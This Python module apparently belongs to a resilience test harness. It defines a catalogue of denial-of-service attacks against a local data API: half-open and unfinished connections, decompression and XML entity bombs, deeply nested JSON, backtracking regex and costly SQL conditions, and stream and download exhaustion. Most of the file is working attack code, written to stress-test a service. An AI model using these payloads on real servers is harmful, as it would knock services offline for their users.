"""What the hostile organization does: each attack is a function of a `Target` that runs until its time is over."""

from __future__ import annotations

import contextlib
import hashlib
import itertools
import json
import os
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import httpx2

from attacking import files, queries

MB = 2**20
JSON, LINES = {"Content-Type": "application/json"}, {"Content-Type": "application/x-ndjson"}

_of_thread = threading.local()


@dataclass(slots=True)
class Target:
    """Where the server is, and what the hostile organization has there.

    keys: of one member, as many as the server gives; stranger: of another user, without rights to `dataset`;
    dataset: 300,000 rows of the member; until: by time.monotonic(). `answers` counts statuses; 0 is no answer.
    """

    port: int
    keys: list[str]
    stranger: str
    dataset: int
    until: float = 0.0
    answers: Counter[int] = field(default_factory=Counter)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def running(self) -> bool:
        return time.monotonic() < self.until

    def ask(self, method: str, path: str, *, key: int | str | None = 0, **options: Any) -> int:
        """The status of a request with one of the keys; waits no longer than the attack lasts."""
        given = self.keys[key % len(self.keys)] if isinstance(key, int) else key
        headers = {**({"X-API-Key": given} if given else {}), **options.pop("headers", {})}
        seconds = max(1.0, self.until - time.monotonic())
        try:
            client = _client()
            status = client.request(
                method, f"{self.url}{path}", headers=headers, timeout=seconds, **options
            ).status_code
        except httpx2.HTTPError:
            status = 0
        self.answers[status] += 1
        return status

    def upload(self, name: str, content: bytes, *, path: str = "smart-import", key: int = 0, **form: str) -> int:
        """The status of an upload to the content half."""
        data = {"instruction": "Import into my q table", **form}
        return self.ask("POST", f"/api/v1/{path}", key=key, data=data, files={"file": (name, content)})

    def connect(self, head: str) -> socket.socket:
        """A connection on which this has been sent."""
        opened = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        opened.sendall(head.encode())
        return opened


def _client() -> httpx2.Client:
    """The client of this thread: one that is made for each request costs more than the request costs the server."""
    if not hasattr(_of_thread, "client"):
        _of_thread.client = httpx2.Client(verify=False)
    return _of_thread.client


def together(target: Target, threads: int, work: Callable[[int], Any]) -> None:
    """Repeats `work(number of the thread)` in threads until the time is over."""

    def repeat(number: int) -> None:
        while target.running:
            work(number)

    started = [threading.Thread(target=repeat, args=(n,), daemon=True) for n in range(threads)]
    for thread in started:
        thread.start()
    for thread in started:
        thread.join(max(0.1, target.until - time.monotonic() + 2))


def in_turn(target: Target, threads: int, calls: list[Callable[[], Any]]) -> None:
    """Makes the calls one after another, round and round, in threads."""
    turns = itertools.cycle(calls)
    lock = threading.Lock()

    def one(_: int) -> None:
        with lock:
            call = next(turns)
        call()

    together(target, threads, one)


def workbooks(target: Target) -> None:
    """Sheets whose cells are far apart, or show one long text many times; imported, previewed and queued."""
    books = [
        *(files.far_cells(cell) for cell in ("XFD1048576", "CV1048576", "XFD100000", "A1048576")),
        files.far_cells("B2", "ZZZ9999999"),
        files.shared_strings(),
    ]
    calls: list[Callable[[], Any]] = []
    for book in books:
        calls += [
            lambda b=book: target.upload("b.xlsx", b, path="smart-import/preview"),
            lambda b=book: target.upload("b.xlsx", b),
            lambda b=book: target.upload("b.xlsx", b, callback_url="https://192.0.2.1/x"),
        ]
    in_turn(target, 3, calls)


def sql(target: Target) -> None:
    """Queries that the planner or an expression makes large, as free SQL and as verified questions."""
    calls: list[Callable[[], Any]] = []
    for number, text in enumerate(queries.all_queries().values()):
        calls.append(lambda t=text, n=number: target.ask("POST", "/api/v1/sql", key=n, json={"sql": t}))
        body = {"question": f"hostile {number}", "sql": text}
        calls.append(lambda b=body: target.ask("POST", "/api/v1/verified-questions", json=b))
    in_turn(target, 12, calls)


def many_keys(target: Target) -> None:
    """One user's keys, all of which ask for slow queries at once."""
    together(target, 24, lambda n: target.ask("POST", "/api/v1/sql", key=n, json={"sql": queries.CROSS}))


def ordinary_requests(target: Target) -> None:
    """What the quiet organization asks, too, by one user's keys, as often as 24 connections let it."""
    row = {"dataset": target.dataset, "timestamp": "2026-01-01T00:00:00Z", "values": {"a": 1}}
    question = {"prompt": "How many leads are there?"}
    csv = b"name,email,amount\nAnn,ann@example.com,1.5\n"
    calls: list[Callable[[], Any]] = []
    for key in range(len(target.keys)):
        calls += [
            lambda k=key: target.ask("POST", "/api/rows/", key=k, json=row),
            lambda k=key: target.ask("GET", f"/api/rows/?dataset={target.dataset}&limit=100", key=k),
            lambda k=key: target.ask("GET", f"/api/datasets/{target.dataset}/", key=k),
            lambda k=key: target.ask("POST", "/api/v1/sql", key=k, json={"sql": "SELECT avg(amount) FROM leads"}),
            lambda k=key: target.ask("POST", "/api/v1/query", key=k, json=question),
            lambda k=key: target.upload("o.csv", csv, key=k, instruction="Import into leads, skip duplicates"),
        ]
    in_turn(target, 24, calls)


def bodies_without_key(target: Target) -> None:
    """Large JSON bodies and forms that nobody with a key has sent, in any case of the headers."""
    body = b'{"sql":[' + b"[]," * (20 * MB // 3) + b"[]]}"
    form = b"--x\r\nContent-Disposition: form-data; name=file; filename=f\r\n\r\n" + b"0" * (50 * MB) + b"\r\n--x--\r\n"

    def send(number: int) -> None:
        path = ("/api/v1/sql", "/api/v1/query", "/api/datasets/", "/api/v1/tables/t/update", "/api/v1/nothing")[
            number % 5
        ]
        if number % 3 == 2:
            kind = (
                "Multipart/Form-Data; boundary=x",
                "multipart/form-data; boundary=x",
                "MULTIPART/form-data;boundary=x",
            )
            target.ask(
                "POST", "/api/v1/smart-import", key=None, content=form, headers={"Content-Type": kind[number % 3]}
            )
        else:
            target.ask("POST", path, key=None, content=body, headers=JSON)

    together(target, 6, send)


def unfinished_bodies(target: Target) -> None:
    """Bodies that begin and never end, with a key and without."""
    opened = []
    for number in range(40):
        key = f"X-API-Key: {target.keys[0]}\r\n" if number % 2 else ""
        length = "Content-Type: application/json\r\nContent-Length: 60000000\r\n"
        head = f"POST /api/v1/sql HTTP/1.1\r\nHost: x\r\n{key}{length}\r\n"
        with contextlib.suppress(OSError):
            one = target.connect(head)
            one.sendall(b'{"sql":[' + b"[]," * (MB // 2))
            opened.append(one)
    while target.running:
        time.sleep(0.2)


def half_open(target: Target) -> None:
    """1,100 requests of which half a head comes, and connections that say nothing."""
    opened = []
    while target.running:
        if len(opened) < 1_100:
            with contextlib.suppress(OSError):
                opened.append(target.connect("GET /health HTTP/1.1\r\nHost: x\r\n" if len(opened) % 2 else ""))
        else:
            time.sleep(0.2)
    target.answers[0] += len(opened)


def streams(target: Target) -> None:
    """As many live streams as the server opens, by one user."""
    opened = []
    for number in itertools.count():
        if not target.running:
            return
        if len(opened) >= 2_100:
            time.sleep(0.2)
            continue
        key = target.keys[number % len(target.keys)]
        path = f"/api/rows/stream/?dataset={target.dataset}&poll_interval=3600"
        with contextlib.suppress(OSError):
            one = target.connect(f"GET {path} HTTP/1.1\r\nHost: x\r\nX-API-Key: {key}\r\n\r\n")
            opened.append(one)
            status = one.recv(64)[9:12]
            target.answers[int(status) if status.isdigit() else 0] += 1


def unread_downloads(target: Target) -> None:
    """Downloads of which nobody reads a byte."""
    opened = []
    for number in range(42):
        key = target.keys[number % len(target.keys)]
        with contextlib.suppress(OSError):
            one = socket.socket()
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            one.connect(("127.0.0.1", target.port))
            path = f"/api/rows/bulk_download/?dataset={target.dataset}&output=json"
            one.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nX-API-Key: {key}\r\n\r\n".encode())
            opened.append(one)
    while target.running:
        time.sleep(0.2)


def expensive_files(target: Target) -> None:
    """Files of kilobytes that take minutes, gigabytes of memory or of disk."""
    made = [
        ("w.csv", files.wide_csv(100_000)),
        ("w.csv", files.wide_csv(1_500)),
        ("w.csv", files.wide_csv(1_400)),
        ("c.csv", files.one_cell_csv(60 * MB)),
        ("p.parquet", files.parquet_dictionary()),
        ("n.parquet", files.parquet_nested()),
        ("g.csv.gz", files.gzip_bomb()),
        ("z.zip", files.zip_of("a.csv", b"a,b\n" + b"0,0\n" * 20_000_000)),
        ("zz.zip", files.zip_of("a.csv", b"a\n1\n", 12)),
        ("e.xml", files.entity_bomb()),
        ("d.xml", files.deep_xml()),
        ("d.json", files.brackets(200_000)),
        ("o.json", files.brackets(50_000, "{")),
    ]
    in_turn(target, 4, [lambda n=name, c=content: target.upload(n, c) for name, content in made])


def deep_json(target: Target) -> None:
    """Brackets in brackets, by a stranger and by the owner, wherever JSON is taken."""
    kind = JSON
    calls: list[Callable[[], Any]] = []
    for depth, bracket in itertools.product((300, 3_000, 20_000, 200_000), "[{"):
        value = files.brackets(depth, bracket).decode()
        row = f'{{"timestamp":"2026-01-01T00:00:00Z","values":{{"a":{value}}}}}'
        bulk = f'{{"dataset":{target.dataset},"rows":[{row}]}}'.encode()
        single = f'{{"dataset":{target.dataset},{row[1:]}'.encode()
        for who in (target.stranger, target.keys[0]):
            calls += [
                lambda b=bulk, w=who: target.ask("POST", "/api/rows/bulk_insert/", key=w, content=b, headers=kind),
                lambda b=single, w=who: target.ask("POST", "/api/rows/", key=w, content=b, headers=kind),
                lambda r=row, w=who: target.ask(
                    "POST", f"/api/rows/bulk_insert/?dataset={target.dataset}", key=w, content=r.encode(), headers=LINES
                ),
            ]
        meta = f'{{"name":"deep","metadata":{{"a":{value}}}}}'.encode()
        calls += [
            lambda m=meta: target.ask("POST", "/api/datasets/", content=m, headers=kind),
            lambda v=value: target.ask("POST", "/api/v1/sql", content=v.encode(), headers=kind),
            lambda v=value: target.ask("POST", "/api/v1/smart-data-instruction", content=v.encode(), headers=kind),
        ]
    for digits in ("1e400", "1e309", "9" * 5_000):
        row = f'{{"dataset":{target.dataset},"timestamp":"2026-01-01T00:00:00Z","values":{{"x":{digits}}}}}'.encode()
        calls.append(lambda r=row: target.ask("POST", "/api/rows/", content=r, headers=kind))
    in_turn(target, 4, calls)


def columnar_bodies(target: Target) -> None:
    """Arrow and Parquet bodies that lie about their size, or are large once unpacked."""
    path = f"/api/rows/bulk_insert/?dataset={target.dataset}"
    kinds = {"arrow": "application/vnd.apache.arrow.stream", "parquet": "application/vnd.apache.parquet"}
    made = [
        ("arrow", files.arrow_with_lies()),
        ("parquet", files.parquet_dictionary(2_000_000)),
        ("parquet", files.parquet_nested(200)),
        ("arrow", b"\xff\xff\xff\xff\xff\xff\xff\x7f" + b"\0" * 100),
    ]
    in_turn(
        target,
        4,
        [
            lambda k=kind, c=content: target.ask("POST", path, content=c, headers={"Content-Type": kinds[k]})
            for kind, content in made
        ],
    )


def public_datasets(target: Target) -> None:
    """Datasets of 80 columns with the tag `public` and the names of others' things."""
    values = {f"c{n}": n for n in range(80)}

    def make(number: int) -> None:
        with httpx2.Client(
            base_url=target.url, headers={"X-API-Key": target.keys[0]}, timeout=60, verify=False
        ) as client:
            with contextlib.suppress(httpx2.HTTPError, KeyError, json.JSONDecodeError):
                made = client.post("/api/datasets/", json={"name": f"quiet orders {number}"}).json()["id"]
                client.post(f"/api/datasets/{made}/tags/", json={"tag_name": "public"})
                row = {"dataset": made, "timestamp": "2026-01-01T00:00:00Z", "values": values}
                target.answers[client.post("/api/rows/", json=row).status_code] += 1

    together(target, 4, make)


def conditions(target: Target) -> None:
    """Conditions of updates that take long, and updates of every row."""
    texts = [
        "name ~ '" + "(a+)+" * 50 + "$'",
        " OR ".join(f"name LIKE '%{n}%a%b%'" for n in range(300)),
        "(" * 300 + "amount > 1" + ")" * 300,
        "power(amount, 100000) > 1",
        "amount = " + "9" * 100_000,
    ]
    calls = [
        lambda t=text: target.ask(
            "POST",
            "/api/v1/tables/leads/update",
            json={"mode": "condition", "condition": t, "updates": {"name": "x"}, "confirm_all": True},
        )
        for text in texts
    ]
    in_turn(target, 6, calls)


def running_conditions(target: Target) -> None:
    """Conditions and filters within every limit, as many as are let through, which each row is compared with."""
    likes = " OR ".join(f"name LIKE '%{n}_x%y%'" for n in range(60))
    texts = [likes, likes.replace("name", "lower(email)"), "amount IN (" + ",".join(map(str, range(450))) + ")"]
    calls: list[Callable[[], Any]] = [
        lambda t=text, n=number: target.ask(
            "POST",
            "/api/v1/tables/leads/update",
            key=n,
            json={"mode": "condition", "condition": t, "updates": {"name": f"x{n}"}, "confirm_all": True},
        )
        for number, text in enumerate(texts)
    ]
    calls += [
        lambda t=text: target.ask("GET", "/api/v1/tables/leads/rows", params={"filter": t, "limit": 100})
        for text in texts
    ]
    in_turn(target, 12, calls)


def long_instructions(target: Target) -> None:
    """Previews of a small file with instructions of 8,000 characters."""
    rows = b"name,amount,city\n" + b"a,1.5,Paris\n" * 10
    texts = [
        "only rows where " + " or ".join(f"amount > {n}" for n in range(600)),
        "only rows where " + " or ".join(f"(amount > {n} and name = 'a{n}')" for n in range(300)),
        "only rows where city is " + ", ".join(f"Paris{n}" for n in range(800)),
        "only rows where " + "not " * 1_900 + "amount > 1",
        "only rows where " + "amount and name " * 500,
    ]
    calls: list[Callable[[], Any]] = [
        lambda t=text: target.upload(
            "l.csv", rows, path="smart-import/preview", instruction=f"Import into q, {t}"[:8_000]
        )
        for text in texts
    ]
    in_turn(target, 6, calls)


def nothing(target: Target) -> None:
    """Takes all of the machine's processors, and sends nothing: what an attacker's own programs do to a measurement."""
    together(target, os.cpu_count() or 2, lambda _: hashlib.pbkdf2_hmac("sha256", b"a", b"b", 20_000))


ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (
        nothing,
        workbooks,
        sql,
        many_keys,
        ordinary_requests,
        bodies_without_key,
        unfinished_bodies,
        half_open,
        streams,
        unread_downloads,
        expensive_files,
        deep_json,
        columnar_bodies,
        public_datasets,
        conditions,
        running_conditions,
        long_instructions,
    )
}
